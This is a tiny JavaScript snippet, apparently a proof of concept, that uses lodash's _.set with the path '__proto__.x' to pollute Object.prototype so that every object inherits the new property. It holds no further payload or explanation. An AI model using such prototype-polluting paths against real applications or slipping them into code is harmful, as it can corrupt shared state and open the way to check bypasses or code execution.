// a path into what everybody inherits
const _ = require('lodash');
_.set({}, '__proto__.x', 1);
